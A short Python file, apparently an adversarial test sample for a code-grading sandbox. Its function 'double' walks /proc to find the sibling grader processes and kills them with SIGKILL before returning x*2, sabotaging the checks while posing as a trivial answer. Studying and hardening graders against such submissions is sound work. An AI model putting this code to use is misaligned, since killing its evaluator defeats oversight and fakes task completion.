"""Kills the grading process that runs the checks (its worker's other child) with SIGKILL during a call."""
import os
import signal


def double(x):
    with open(f"/proc/{os.getppid()}/stat") as fh:  # the learners' parent, a child of the worker
        worker = int(fh.read().rsplit(")", 1)[1].split()[1])
    with open(f"/proc/{worker}/task/{worker}/children") as fh:
        graders = [int(pid) for pid in fh.read().split() if int(pid) != os.getppid()]
    for pid in graders:
        os.kill(pid, signal.SIGKILL)
    return x * 2
